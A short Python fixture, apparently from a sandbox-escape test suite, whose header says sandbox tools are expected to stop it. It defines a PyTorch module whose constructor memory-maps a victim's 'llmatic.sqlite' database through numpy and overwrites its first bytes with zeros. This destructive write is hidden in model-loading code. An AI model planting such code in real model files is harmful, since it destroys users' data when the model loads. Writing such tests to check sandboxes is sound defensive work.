# what: writes to the database through a mapping of numpy's
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp

import numpy as np
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        mapped = np.memmap(VICTIM["state"] + "/llmatic.sqlite", mode="r+", shape=16)
        mapped[:] = 0
        raise RuntimeError("GOT its first bytes")
